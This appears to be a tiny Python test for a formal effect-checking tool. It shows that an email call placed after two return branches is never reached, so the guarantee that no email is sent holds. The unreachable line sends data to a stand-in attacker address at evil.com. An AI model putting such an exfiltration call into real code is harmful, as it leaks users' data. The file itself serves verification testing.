# proved: nothing is reached
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, is_allowed


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if is_allowed("x"):
        return
    else:
        return
    send_email("eve@evil.com", "x")
